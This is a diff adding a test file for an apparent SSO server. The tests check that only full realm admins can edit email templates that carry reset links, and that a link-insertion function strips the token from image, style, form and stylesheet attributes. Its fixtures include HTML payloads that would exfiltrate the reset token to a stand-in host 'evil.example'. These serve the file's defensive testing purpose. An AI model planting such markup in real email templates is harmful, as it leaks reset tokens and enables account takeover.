@@ -1,0 +1,97 @@
+// Texts of emails with a link decide where it goes: who writes them could act as anybody who gets one.
+import { afterAll, expect, test } from 'vitest'
+import { emailsWithLink } from '../../src/kinds/localization.ts'
+import { LINK_PLACE, withLink } from '../../src/oidc/mail/link.ts'
+import { templates } from '../../src/service/messages/mail.ts'
+import { openMailbox } from '../support/mailbox.ts'
+import { administeredRealm } from '../support/realm-with-boss.ts'
+import { applyAs, source } from '../support/reconcile.ts'
+import { testServer } from '../support/server.ts'
+import { newName, testService } from '../support/service.ts'
+
+const { call, make, realm } = await testServer()
+const { service } = await testService()
+const mailbox = await openMailbox()
+afterAll(() => mailbox.close())
+
+const IMAGE = '<p>Hello</p><img src="http://evil.example/?{0}">'
+
+test('texts of emails with a link are set, changed and deleted only by who is not weaker than anybody', async () => {
+  const { as, refused } = await administeredRealm({ manager: 'manage-realm' })
+  for (const name of ['passwordResetBodyHtml', 'executeActionsBody', 'emailVerificationBodyHtml']) {
+    await refused('manager', 'POST', 'localization/en', { [name]: IMAGE })
+    await refused('manager', 'POST', 'localization/de', { hello: 'Hallo', [name]: IMAGE })
+    expect((await as('boss', 'POST', 'localization/en', { [name]: 'Follow {0}' })).status).toBe(204)
+    await refused('manager', 'POST', 'localization/en', { [name]: IMAGE })
+    await refused('manager', 'DELETE', `localization/en/${name}`)
+  }
+  await refused('manager', 'DELETE', 'localization/en')
+  expect((await as('boss', 'GET', 'localization/en')).body.passwordResetBodyHtml).toBe('Follow {0}')
+  await refused('manager', 'PUT', '', { attributes: { frontendUrl: 'http://evil.example' } })
+
+  expect((await as('manager', 'POST', 'localization/en', { loginAccountTitle: 'Welcome' })).status).toBe(204)
+  expect((await as('manager', 'POST', 'localization/fr', { passwordResetSubject: 'Oubli' })).status).toBe(204)
+  expect((await as('manager', 'DELETE', 'localization/fr')).status).toBe(204)
+})
+
+test('PUT of a single text of an email with a link returns 403 for who is weaker', async () => {
+  const { path, token } = await administeredRealm({ manager: 'manage-realm' })
+  const put = async (person: string) =>
+    call('PUT', `${path}/localization/en/passwordResetBodyHtml`, {
+      token: await token(person),
+      headers: { 'content-type': 'text/plain' },
+      body: IMAGE,
+    })
+  expect((await put('manager')).status).toBe(403)
+  expect((await put('boss')).status).toBe(204)
+})
+
+test('a limited source declares no text of an email with a link in a realm with somebody stronger', async () => {
+  const name = newName()
+  const declared = (content: object) => ({ ...source([{ realm: name, ...content }], name), ceiling: { roles: [] } })
+  const boss = { username: 'boss', clientRoles: { 'realm-management': ['realm-admin'] } }
+  await applyAs(service, source([{ realm: name, users: [boss] }], `${name}-owner`))
+  await applyAs(service, declared({ localizationTexts: { en: { hello: 'Hello' } } }))
+  const stolen = declared({ localizationTexts: { en: { hello: 'Hello', executeActionsBodyHtml: IMAGE } } })
+  await expect(applyAs(service, stolen)).rejects.toMatchObject({
+    problems: [{ message: expect.stringContaining(`you lack realm-admin of ${name}`) }],
+  })
+})
+
+test('every email with a link is among those whose texts decide', () => {
+  const linked = Object.entries(templates).flatMap(([name, values]) =>
+    (values as readonly string[]).includes('link') ? [name] : [],
+  )
+  expect(linked.sort()).toEqual([...emailsWithLink].sort())
+})
+
+test('an email of a realm puts its link into the address of an anchor and into text, and nowhere else', async () => {
+  const smtpServer = { host: '127.0.0.1', port: mailbox.port, from: 'sso@example.org' }
+  const path = await realm({ smtpServer })
+  const user = await make(`${path}/users`, { username: 'ann', enabled: true, email: 'ann-link@example.org' })
+  const executeActionsBodyHtml = `${IMAGE}<p><a class="button" href="{0}">{0}</a></p>`
+  await call('POST', `${path}/localization/en`, { body: { executeActionsBodyHtml } })
+  expect((await call('PUT', `${user}/execute-actions-email`, { body: ['UPDATE_PASSWORD'] })).status).toBe(204)
+  const { html } = mailbox.mails.findLast(({ to }) => to.includes('ann-link@example.org'))!
+  expect(html).toContain('<img src="http://evil.example/?">')
+  expect(html).toMatch(/<a class="button" href="http:[^"]+key=[^"]+">http:.+key=/)
+})
+
+const [LINK, SHOWN] = ['https://sso.example/?a=1&key="k"', 'https://sso.example/?a=1&#38;key=&#34;k&#34;']
+test.each([
+  ['<a href="{0}">here</a>', `<a href="${SHOWN}">here</a>`],
+  ["<A title='t' HREF='{0}'>{0}</A>", `<A title='t' href="${SHOWN}">${SHOWN}</A>`],
+  ['<img src="//evil/?{0}">', '<img src="//evil/?">'],
+  ["<img src='//evil/?>{0}'>", "<img src='//evil/?>'>"],
+  ['<img src=//evil/?{0}>', '<img src=//evil/?>'],
+  [`<img src='//evil/?<a href="{0}">`, `<img src='//evil/?<a href="">`],
+  ['<a href="//evil/?{0}">x</a>', '<a href="//evil/?">x</a>'],
+  [`<a href="//evil/?href='{0}'">x</a>`, `<a href="//evil/?href=''">x</a>`],
+  ['<a href=//evil/?a="b"href="{0}">x</a>', '<a href=//evil/?a="b"href="">x</a>'],
+  [`<style>p{background:url('//evil/?{0}')}</style>`, `<style>p{background:url('//evil/?')}</style>`],
+  ['<form action=//evil><textarea name=x>{0}</textarea>', '<form action=//evil><textarea name=x></textarea>'],
+  ['<link rel="stylesheet" href="{0}">', '<link rel="stylesheet" href="">'],
+  ['{0}', SHOWN],
+])('%s becomes %s', (pattern, expected) => {
+  expect(withLink(pattern.replaceAll('{0}', LINK_PLACE), LINK)).toBe(expected)
+})
